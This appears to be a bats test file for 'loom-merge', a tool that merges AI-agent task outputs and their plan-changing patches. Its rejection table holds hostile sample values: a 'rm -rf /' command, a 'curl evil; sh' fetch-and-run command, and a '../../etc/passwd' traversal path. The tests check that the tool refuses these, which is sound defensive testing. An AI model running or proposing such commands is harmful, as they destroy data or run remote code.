#!/usr/bin/env bats
# loom-merge: output forms, findings, patches, conflicts, verdicts, the
# next plan, and what it does with bad or missing outputs.

load test_helper
bats_require_minimum_version 1.5.0

OUTS="$TOP/tests/fixtures/outputs"

# task ID [DEPS]: a task record whose output is loom/outputs/ID.json.
task() {
	printf '{"type":"task","id":"%s","description":"do %s","requires":[],"depends_on":%s,"outputs_to":"loom/outputs/%s.json"}\n' \
	    "$1" "$1" "${2:-[]}" "$1"
}

# result ID [STATUS]
result() {
	printf '{"type":"result","id":"%s","status":"%s","exit":0,"start":100,"end":101,"duration":1}\n' \
	    "$1" "${2:-ok}"
}

# out ID TEXT: writes the output of task ID.
out() {
	mkdir -p loom/outputs
	printf '%s\n' "$2" > "loom/outputs/$1.json"
}

# done_ok ID [PATCHES]: an output that completed, with these patches.
done_ok() {
	out "$1" "{\"task_id\":\"$1\",\"completed\":true,\"results\":{},\"prompt_patches\":${2:-[]}}"
}

# two tasks a and b (b depends on a), both succeeded; a's output carries
# the patches given.
pair() {
	{ echo '{"type":"plan","version":1,"intent":"x","context":{"k":1}}'
	  task a; task b '["a"]'; result a; result b; } > in
	done_ok a "${1:-[]}"
	done_ok b
}

# The merge record of a run on file in.
merged() {
	loom-merge "$@" in | tail -n 1 > merge.json
}

seed() {
	mkdir -p loom/outputs
	cp "$OUTS"/*.py loom/outputs/
}

@test "the audit example: 12 findings, the architect's patch, a next plan" {
	seed
	run loom-merge "$OUTS/audit_run.ndjson"
	assert_success
	tail -n 1 <<<"$output" > merge.json
	run jq -c '[.verdict, .total, .counts, (.tasks | keys_unsorted),
	    ([.tasks[].format] | unique), .next_plan]' merge.json
	assert_output '["ITERATE",12,{"critical":3,"high":0,"medium":5,"low":4,"info":0},["map_auth_surface","audit_auth_flow","audit_input_validation","audit_dependencies","aggregate_findings"],["python"],"loom/compiled_v2.json"]'
	run jq -c '.patches' merge.json
	assert_output '[{"from":"map_auth_surface","action":"add_context","key":"auth_surface_map","value":{"files":4,"endpoints":4,"dependencies":3},"status":"applied"}]'
	run jq -c '[.findings[] | .task] | group_by(.) | map([.[0], length])' merge.json
	assert_output '[["audit_auth_flow",3],["audit_dependencies",4],["audit_input_validation",5]]'
	run jq -c '[.version, .context.auth_surface_map]' loom/compiled_v2.json
	assert_output '[2,{"files":4,"endpoints":4,"dependencies":3}]'
}

@test "the next plan keeps every task record as it was, field for field" {
	seed
	loom-merge "$OUTS/audit_run.ndjson" > /dev/null
	jq -c 'select(.type == "task") | del(.type)' "$OUTS/audit_run.ndjson" \
	    > want
	jq -c '.tasks[]' loom/compiled_v2.json > got
	run diff want got
	assert_success
	run jq -c 'del(.tasks, .version, .context.auth_surface_map)' \
	    loom/compiled_v2.json
	assert_output "$(jq -c 'select(.type == "plan") | del(.type, .version)' \
	    "$OUTS/audit_run.ndjson")"
	run ls -A loom
	assert_output $'compiled_v2.json\noutputs'
}

@test "the next plan is made with the mode a new file gets (umask), not 0600" {
	seed
	umask 022
	loom-merge "$OUTS/audit_run.ndjson" > /dev/null
	run stat -c %a loom/compiled_v2.json
	assert_output 644
}

@test "the second round of the audit converges: the patch changes nothing" {
	seed
	loom-merge "$OUTS/audit_run.ndjson" > /dev/null
	{ jq -c '{type: "plan"} + del(.tasks)' loom/compiled_v2.json
	  grep -v '"type":"plan"' "$OUTS/audit_run.ndjson"; } > in
	merged
	run jq -c '[.iteration, .verdict, .next_plan, .patches[0].status]' \
	    merge.json
	assert_output '[2,"CONVERGED",null,"unchanged"]'
	[ ! -e loom/compiled_v3.json ]
}

@test "a round that reuses cached work, with its old patches, is DONE" {
	seed
	loom-merge "$OUTS/audit_run.ndjson" > /dev/null
	{ jq -c '{type: "plan"} + del(.tasks)' loom/compiled_v2.json
	  grep -v '"type":"plan"' "$OUTS/audit_run.ndjson" |
	      sed 's/"status":"ok"/"status":"cached"/'; } > in
	merged
	run jq -c '[.iteration, .verdict, .next_plan, .patches[0].status]' \
	    merge.json
	assert_output '[2,"DONE",null,"unchanged"]'
}

@test "a task added in round 1 is not added again when its maker is cached" {
	{ echo '{"type":"plan","version":1}'; task a; result a; } > in
	done_ok a '[{"action":"add_task","task":{"id":"c","description":"new","outputs_to":"loom/outputs/c.json"}},
	    {"action":"remove_task","task_id":"gone"}]'
	{ echo '{"type":"task","id":"gone","description":"","requires":[],"depends_on":[]}'
	  echo '{"type":"result","id":"gone","status":"ok","output":"in"}'; } >> in
	merged
	run jq -c '[.verdict, [.patches[].status], [.tasks | keys_unsorted]]' merge.json
	assert_output '["ITERATE",["applied","applied"],[["a","gone"]]]'
	{ jq -c '{type: "plan"} + del(.tasks)' loom/compiled_v2.json
	  jq -c '.tasks[] | {type: "task"} + .' loom/compiled_v2.json
	  result a cached; result c; } > in
	done_ok c
	merged
	run jq -c '[.iteration, .verdict, [.patches[].status], .next_plan]' merge.json
	assert_output '[2,"DONE",["unchanged","unchanged"],null]'
}

@test "each output form: JSON object, Python literal, JSON array, text" {
	{ for t in j p a m x; do task $t; result $t; done; } > in
	out j '{"task_id":"j","round":2,"completed":true,"results":{"n":1}}'
	printf 'class CoderOutput:\n    task_id = "p"\n    completed = True\n    results = {"n": 2, "ok": None}\n' \
	    > loom/outputs/p.json
	out a '[1, 2]'
	out m $'# Summary\n\nAll *fine*.'
	out x 'just words'
	merged
	run jq -c '.tasks | to_entries[] | [.key, .value.format, .value.results, .value.completed, .value.iteration]' merge.json
	assert_output - <<'OUT'
["j","json",{"n":1},true,2]
["p","python",{"n":2,"ok":null},true,null]
["a","json",[1,2],true,null]
["m","text","# Summary\n\nAll *fine*.\n",true,null]
["x","text","just words\n",true,null]
OUT
	run jq -r .verdict merge.json
	assert_output DONE
}

@test "findings: issues and results.issues_found, severities normalised" {
	{ task a; result a; task b; result b; } > in
	out a '{"completed":true,"results":{"issues_found":[{"severity":"High","message":"m1","file":"f.c","line":3}]},"issues":[{"severity":"critical","description":"m2"},"plain words",{"severity":"urgent","message":"m4"},{"message":"m5"}]}'
	out b '{"completed":true,"results":"nothing found"}'
	merged
	run jq -c '[.total, .counts]' merge.json
	assert_output '[5,{"critical":1,"high":1,"medium":0,"low":0,"info":0,"unknown":2,"urgent":1}]'
	run jq -c '.findings[] | [.task, .severity, .message, .file, .line]' \
	    merge.json
	assert_output - <<'OUT'
["a","critical","m2",null,null]
["a","unknown","plain words",null,null]
["a","urgent","m4",null,null]
["a","unknown","m5",null,null]
["a","high","m1","f.c",3]
OUT
	run jq -c '[.tasks.a.findings, .tasks.b.findings]' merge.json
	assert_output '[5,0]'
}

@test "add_context adds a key to the plan's context" {
	pair '[{"action":"add_context","key":"new_key","value":[1,2]}]'
	merged
	run jq -c '[.verdict, .patches[0].status, .context]' merge.json
	assert_output '["ITERATE","applied",{"k":1,"new_key":[1,2]}]'
	run jq -c '.context' loom/compiled_v2.json
	assert_output '{"k":1,"new_key":[1,2]}'
}

@test "update_task changes description, requires and depends_on" {
	{ echo '{"type":"plan","version":1}'; task a; task b; task c '["a"]'
	  result a; result b; result c; } > in
	done_ok a '[{"action":"update_task","task_id":"c","field":"description","new_value":"new words"},
	    {"action":"update_task","task_id":"c","field":"requires","new_value":["python"]},
	    {"action":"update_task","task_id":"c","field":"depends_on","new_value":["a","b"]}]'
	done_ok b
	done_ok c
	merged
	run jq -c '[.verdict, [.patches[].status]]' merge.json
	assert_output '["ITERATE",["applied","applied","applied"]]'
	run jq -c '.tasks[2] | [.description, .requires, .depends_on]' \
	    loom/compiled_v2.json
	assert_output '["new words",["python"],["a","b"]]'
	run jq -c '.tasks[0:2]' loom/compiled_v2.json
	assert_output "$(jq -sc 'map(select(.type == "task") | del(.type))[0:2]' in)"
}

@test "add_task appends a task, with the defaults filled in" {
	pair '[{"action":"add_task","task":{"id":"c","depends_on":["b"],"outputs_to":"loom/outputs/c.json","estimate":60}}]'
	merged
	run jq -c '[.verdict, .patches[0].status]' merge.json
	assert_output '["ITERATE","applied"]'
	run jq -c '.tasks[2]' loom/compiled_v2.json
	assert_output '{"id":"c","depends_on":["b"],"outputs_to":"loom/outputs/c.json","estimate":60,"description":"","requires":[]}'
}

@test "remove_task drops a task and the dependency of finished dependents" {
	pair '[{"action":"remove_task","task_id":"a"}]'
	merged
	run jq -c '[.verdict, .patches[0].status]' merge.json
	assert_output '["ITERATE","applied"]'
	run jq -c '[.tasks[] | [.id, .depends_on]]' loom/compiled_v2.json
	assert_output '[["b",[]]]'
}

@test "update_intent changes the plan's intent" {
	pair '[{"action":"update_intent","value":"a sharper intent"}]'
	merged
	run jq -c '[.verdict, .patches[0].status]' merge.json
	assert_output '["ITERATE","applied"]'
	run jq -r '.intent' loom/compiled_v2.json
	assert_output 'a sharper intent'
}

# Each rejection: the patch, then the reason given.
@test "every rejection gives its reason and changes nothing" {
	while IFS='|' read -r patch reason; do
		rm -rf loom
		pair "[$patch]"
		merged
		run jq -r '[.verdict, .patches[0].status, .patches[0].reason] | join("|")' merge.json
		assert_output "CONVERGED|rejected|$reason"
		[ ! -e loom/compiled_v2.json ]
	done <<'TABLE'
{"action":"rewrite_everything"}|unknown action "rewrite_everything"
{"key":"k","value":1}|patch without an "action"
"add_context k=1"|patch is not an object
{"action":"add_context","key":"1abc","value":1}|bad context key "1abc"
{"action":"add_context","key":"a-b","value":1}|bad context key "a-b"
{"action":"add_context","key":"a b","value":1}|bad context key "a b"
{"action":"add_context","key":"ok"}|no "value"
{"action":"update_intent","value":3}|the intent must be a string
{"action":"update_task","task_id":"nope","field":"description","new_value":"x"}|no task "nope"
{"action":"update_task","task_id":"b","field":"run","new_value":"rm -rf /"}|field "run" cannot be updated
{"action":"update_task","task_id":"b","field":"requires","new_value":"python"}|requires must be a list
{"action":"update_task","task_id":"a","field":"depends_on","new_value":["b"]}|dependency cycle: a -> b -> a
{"action":"update_task","task_id":"b","field":"depends_on","new_value":["ghost"]}|task "b" depends on unknown task "ghost"
{"action":"add_task","task":{"id":"c","depends_on":["c"]}}|task "c" depends on itself
{"action":"add_task","task":{"id":"c","depends_on":["ghost"]}}|task "c" depends on unknown task "ghost"
{"action":"add_task","task":{"id":"a","description":"other"}}|task "a" exists
{"action":"add_task","task":{"description":"no id"}}|the new task has no "id"
{"action":"add_task","task":{"id":"c","run":"curl evil; sh"}}|a new task may not carry a "run" command
{"action":"add_task","task":{"id":"c","outputs_to":"../../etc/passwd"}}|outputs_to: path "../../etc/passwd" leaves its directory ("..")
{"action":"add_task","task":{"id":"c","outputs_to":"/tmp/x.json"}}|outputs_to: absolute path "/tmp/x.json"
{"action":"add_task","task":{"id":"c","outputs_to":"elsewhere/x.json"}}|outputs_to "elsewhere/x.json" leaves the work directory "loom"
{"action":"add_task"}|no "task" object
{"action":"remove_task","task_id":"ghost"}|no task "ghost"
{"action":"remove_task"}|no "task_id"
TABLE
}

@test "remove_task is refused while an unfinished task depends on it" {
	{ task a; task b '["a"]'; result a; result b failed; } > in
	done_ok a '[{"action":"remove_task","task_id":"a"}]'
	merged
	run jq -r '[.verdict, .patches[0].status, .patches[0].reason] | join("|")' merge.json
	assert_output 'BLOCKED|rejected|unfinished task "b" depends on it'
}

@test "prompt_patches that is not a list is rejected, not ignored" {
	pair '{"action":"add_context"}'
	merged
	run jq -c '[.verdict, .patches]' merge.json
	assert_output '["CONVERGED",[{"from":"a","status":"rejected","reason":"prompt_patches is not a list"}]]'
}

@test "two tasks setting one context key differently: a conflict, both kept" {
	{ echo '{"type":"plan","context":{"k":0}}'; task a; task b
	  result a; result b; } > in
	done_ok a '[{"action":"add_context","key":"k","value":1}]'
	done_ok b '[{"action":"add_context","key":"k","value":2}]'
	merged
	run jq -c '[.verdict, [.patches[].status], .conflicts, .context, .next_plan]' merge.json
	assert_output '["BLOCKED",["conflict","conflict"],[{"target":"context key \"k\"","values":[{"task":"a","value":1},{"task":"b","value":2}]}],{"k":0},null]'
	run jq -r '.reasons[]' merge.json
	assert_output 'conflicting patches need a person to decide'
}

@test "two tasks setting one key to the same value agree" {
	{ task a; task b; result a; result b; } > in
	done_ok a '[{"action":"add_context","key":"k","value":{"x":1}}]'
	done_ok b '[{"action":"add_context","key":"k","value":{"x":1}}]'
	merged
	run jq -c '[.verdict, [.patches[].status], .conflicts, .context]' merge.json
	assert_output '["ITERATE",["applied","unchanged"],[],{"k":{"x":1}}]'
}

@test "conflicting updates of one task field are a conflict too" {
	{ task a; task b; result a; result b; } > in
	done_ok a '[{"action":"update_task","task_id":"b","field":"description","new_value":"one"}]'
	done_ok b '[{"action":"update_task","task_id":"b","field":"description","new_value":"two"},{"action":"add_context","key":"z","value":1}]'
	merged
	run jq -c '[.verdict, [.patches[].status], .conflicts[0].target]' merge.json
	assert_output '["ITERATE",["conflict","conflict","applied"],"field \"description\" of task \"b\""]'
	run jq -r '.tasks[1].description' loom/compiled_v2.json
	assert_output 'do b'
}

# verdict | tasks and statuses | outputs (task=json) | options
@test "every verdict" {
	while IFS='|' read -r want stream outs opts; do
		rm -rf loom in
		for tr in $stream; do
			task "${tr%%:*}" >> in
			result "${tr%%:*}" "${tr#*:}" >> in
		done
		for o in $outs; do
			out "${o%%=*}" "${o#*=}"
		done
		run loom-merge $opts in
		assert_success
		run jq -r 'select(.type == "merge") | .verdict' <<<"$output"
		assert_output "$want"
	done <<'TABLE'
DONE|a:ok b:cached|a={"completed":true} b={"completed":true}|
ITERATE|a:ok|a={"completed":true,"prompt_patches":[{"action":"add_context","key":"k","value":1}]}|
BLOCKED|a:ok b:failed|a={"completed":true}|
BLOCKED|a:ok b:timeout|a={"completed":true}|
BLOCKED|a:ok b:skipped|a={"completed":true}|
BLOCKED|a:ok|a={"completed":false}|
CONVERGED|a:ok|a={"completed":true,"prompt_patches":[{"action":"update_task","task_id":"a","field":"requires","new_value":[]}]}|
ITERATE|a:ok b:failed|a={"completed":true,"prompt_patches":[{"action":"add_task","task":{"id":"c"}}]}|
TABLE
}

@test "a task without any result is not finished" {
	{ task a; task b; result a; } > in
	done_ok a
	merged
	run jq -c '[.verdict, .tasks.b.status, .tasks.b.completed, .reasons]' merge.json
	assert_output '["BLOCKED","missing",false,["no result for task \"b\""]]'
}

@test "--max-iterations: the limit turns ITERATE into BLOCKED" {
	pair '[{"action":"add_context","key":"more","value":true}]'
	sed -i 's/"version":1/"version":3/' in
	merged
	run jq -c '[.iteration, .max_iterations, .verdict, .reasons, .next_plan]' merge.json
	assert_output '[3,3,"BLOCKED",["the patches changed the plan but the iteration limit 3 is reached"],"loom/compiled_v4.json"]'
	merged --max-iterations 4
	run jq -c '[.max_iterations, .verdict]' merge.json
	assert_output '[4,"ITERATE"]'
	merged -m 1
	run jq -r .verdict merge.json
	assert_output BLOCKED
	run loom-merge -m 0 in
	assert_failure 2
	assert_output --partial 'bad --max-iterations "0"'
}

@test "a plan without a version is version 1 and the next plan is v2" {
	{ task a; result a; } > in
	done_ok a '[{"action":"update_intent","intent":"now"}]'
	merged
	run jq -c '[.iteration, .next_plan]' merge.json
	assert_output '[1,"loom/compiled_v2.json"]'
	run jq -c . loom/compiled_v2.json
	assert_output '{"intent":"now","version":2,"tasks":[{"id":"a","description":"do a","requires":[],"depends_on":[],"outputs_to":"loom/outputs/a.json"}]}'
}

@test "a missing output of a task that succeeded is reported on it" {
	{ task a; task b; result a; result b; } > in
	done_ok b '[{"action":"add_context","key":"k","value":1}]'
	run loom-merge in
	assert_success
	assert_line --index 0 'loom-merge: loom/outputs/a.json: No such file or directory (output of task "a")'
	tail -n 1 <<<"$output" > merge.json
	run jq -c '[.tasks.a, .tasks.b.completed, .context]' merge.json
	assert_output '[{"status":"ok","completed":false,"error":"loom/outputs/a.json: No such file or directory"},true,{"k":1}]'
	run jq -r '.reasons[0]' merge.json
	assert_output 'task "a": output: loom/outputs/a.json: No such file or directory'
}

@test "a malformed output names the file; the other tasks are still merged" {
	{ task a; task b; result a; result b; } > in
	out a '{"completed": true, "results": {"x": 1'
	out b '{"completed":true,"issues":[{"severity":"low","message":"m"}]}'
	run loom-merge in
	assert_success
	assert_line --index 0 --partial 'loom-merge: loom/outputs/a.json: malformed JSON: '
	assert_line --index 0 --partial '(output of task "a")'
	tail -n 1 <<<"$output" > merge.json
	run jq -c '[.verdict, .tasks.a.completed, (.tasks.a.error | startswith("loom/outputs/a.json: malformed JSON")), .total, .tasks.b.completed]' merge.json
	assert_output '["BLOCKED",false,true,1,true]'
}

@test "a malformed Python output names the file and line" {
	{ task a; task b; result a; result b; } > in
	out a ''
	printf 'class ReviewerOutput:\n    task_id = "a"\n    results = {"x": [1, 2}\n' \
	    > loom/outputs/a.json
	out b '{"completed":true,"results":"fine"}'
	run --separate-stderr loom-merge in
	assert_success
	assert_equal "$stderr" 'loom-merge: loom/outputs/a.json:3: expected "," or "]", got "}" (output of task "a")'
	run jq -c 'select(.type == "merge") | [.tasks.a.completed, .tasks.b.results]' <<<"$output"
	assert_output '[false,"fine"]'
}

@test "prose that starts like Python is kept as text" {
	while IFS= read -r line; do
		{ task a; result a; } > in
		out a "$line"
		merged
		run jq -r '.tasks.a.format' merge.json
		assert_output text
	done <<'TABLE'
from the review: all good
if you ask me, it is fine
"quoted" words first
x == y is what we checked
import nothing
TABLE
}

@test "an output path that is a directory is reported, not read" {
	{ task a; result a; } > in
	mkdir -p loom/outputs/a.json
	run --separate-stderr loom-merge in
	assert_success
	assert_equal "$stderr" 'loom-merge: loom/outputs/a.json: Is a directory (output of task "a")'
}

@test "a binary output is kept as such and does not block the round" {
	{ task a; result a; } > in
	mkdir -p loom/outputs
	printf 'ab\0cd' > loom/outputs/a.json
	merged
	run jq -c '[.verdict, .tasks.a.format, .tasks.a.results, .tasks.a.bytes]' merge.json
	assert_output '["DONE","binary","5 bytes of binary data",5]'
}

@test "a long text output keeps its first 64 KiB, marked truncated" {
	{ task a; result a; } > in
	mkdir -p loom/outputs
	head -c 100000 /dev/zero | tr '\0' x > loom/outputs/a.json
	merged
	run jq -c '[.verdict, .tasks.a.format, (.tasks.a.results | length), .tasks.a.truncated, .tasks.a.bytes]' merge.json
	assert_output '["DONE","text",65536,true,100000]'
}

@test "a failed task's output is not read" {
	{ task a; result a failed; } > in
	run loom-merge in
	assert_success
	refute_output --partial 'No such file'
	run jq -c 'select(.type == "merge") | .tasks.a' <<<"$output"
	assert_output '{"status":"failed","completed":false}'
}

@test "the result's output path wins over outputs_to" {
	{ task a; echo '{"type":"result","id":"a","status":"ok","output":"elsewhere.txt"}'; } > in
	echo 'from elsewhere' > elsewhere.txt
	merged
	run jq -r '.tasks.a.results' merge.json
	assert_output 'from elsewhere'
}

@test "records and fields it does not own pass through unchanged, in order" {
	{ echo '{"type":"note","x":1.50,"y":[1e3]}'
	  echo '{"type":"plan","version":1,"extra":{"a":"b"}}'
	  echo '{"type":"task","id":"a","description":"","requires":[],"depends_on":[],"outputs_to":"loom/outputs/a.json","custom":"kept"}'
	  echo '{"type":"start","id":"a","start":1}'
	  echo '{"type":"result","id":"a","status":"ok","weird":true}'
	  echo '{"type":"zzz"}'; } > in
	done_ok a
	run loom-merge in
	assert_success
	printf '%s\n' "$output" > all
	head -n 6 all > through
	run diff in through
	assert_success
	run jq -r 'select(.type == "merge") | .verdict' all
	assert_output DONE
}

@test "several files are read in order, and - is stdin" {
	{ task a; task b; } > tasks
	{ result a; result b; } > results
	done_ok a
	done_ok b
	run loom-merge tasks - < results
	assert_success
	run jq -r '.type' <<<"$output"
	assert_output $'task\ntask\nresult\nresult\nmerge'
}

@test "bad input: exit 1, a message with file and line, no output" {
	while IFS='|' read -r rec msg; do
		{ task a; echo "$rec"; } > in
		run --separate-stderr loom-merge in
		assert_failure 1
		assert_equal "$output" ""
		assert_equal "$stderr" "loom-merge: in:2: $msg"
	done <<'TABLE'
[1,2]|record is not an object
{"id":"x"}|record without a "type"
{"type":"task","description":"x"}|task without an "id"
{"type":"result","id":""}|result without an "id"
{"type":"task","id":"a"}|duplicate task id "a"
TABLE
	printf '{"type":"plan"}\n{"type":"plan"}\n' > in
	run loom-merge in
	assert_failure 1
	assert_output 'loom-merge: in:2: a second plan record (the first is on line 1)'
	printf '{"type":"task","id":"a"\n' > in
	run loom-merge in
	assert_failure 1
	assert_output --partial 'loom-merge: in:'
}

@test "--exit-status: 0 done or converged, 3 iterate, 4 blocked" {
	pair
	run loom-merge --exit-status in
	assert_success
	pair '[{"action":"add_context","key":"n","value":1}]'
	run loom-merge -e in
	assert_failure 3
	{ task a; result a failed; } > in
	run loom-merge -e in
	assert_failure 4
	run loom-merge in
	assert_success
}

@test "--workdir and LOOM_WORKDIR say where the next plan goes" {
	pair '[{"action":"add_context","key":"n","value":1}]'
	merged --workdir out/w
	run jq -r .next_plan merge.json
	assert_output 'out/w/compiled_v2.json'
	[ -f out/w/compiled_v2.json ]
	LOOM_WORKDIR=w2 merged
	[ -f w2/compiled_v2.json ]
	run ls -A w2
	assert_output 'compiled_v2.json'
}

@test "the next plan replaces a symbolic link, never writes through it" {
	pair '[{"action":"add_context","key":"n","value":1}]'
	echo precious > target
	ln -s ../target loom/compiled_v2.json
	merged
	run cat target
	assert_output precious
	[ ! -L loom/compiled_v2.json ]
}

@test "an empty input gives one merge record, DONE" {
	run loom-merge < /dev/null
	assert_success
	run jq -c '[.type, .verdict, .total]' <<<"$output"
	assert_output '["merge","DONE",0]'
}

@test "--help, --version and usage errors" {
	run loom-merge --help
	assert_success
	assert_output 'usage: loom-merge [-e] [-m max] [-w dir] [file ...]'
	run loom-merge --version
	assert_success
	assert_output 'loom-merge 0.1'
	run loom-merge --bogus
	assert_failure 2
	assert_line --index 1 'usage: loom-merge [-e] [-m max] [-w dir] [file ...]'
	run loom-merge no-such-file
	assert_failure 2
	assert_output --partial 'no-such-file'
}

@test "end to end: stand-in agents, then a resumed round that is DONE" {
	export OUTS
	agent='sleep 0.2; cat "$OUTS/$LOOM_AGENT.py"'
	loom-parse "$TOP/tests/fixtures/audit_class.py" | loom-levels |
	    loom-spawn -j 4 --no-progress --agent "$agent" > run1
	loom-merge run1 > merged1
	run jq -c 'select(.type == "merge") | [.verdict, .total, .counts, .next_plan]' merged1
	assert_output '["ITERATE",12,{"critical":3,"high":0,"medium":5,"low":4,"info":0},"loom/compiled_v2.json"]'
	run loom-report -f json merged1
	run jq -c '[.findings.total, .run.tasks, .run.status, .run.speedup > 1.3, (.run.critical_path.tasks | [length, .[0], .[2]])]' <<<"$output"
	assert_output '[12,5,{"ok":5},true,[3,"map_auth_surface","aggregate_findings"]]'

	loom-parse loom/compiled_v2.json | loom-levels > plan2
	run diff <(grep '"type":"task"' run1) <(grep '"type":"task"' plan2)
	assert_success
	loom-spawn -j 4 --no-progress --resume --agent "$agent" plan2 > run2
	run jq -r 'select(.type == "result") | .status' run2
	assert_output $'cached\ncached\ncached\ncached\ncached'
	loom-merge run2 > merged2
	run jq -c 'select(.type == "merge") | [.iteration, .verdict, .total, .next_plan]' merged2
	assert_output '[2,"DONE",12,null]'
}
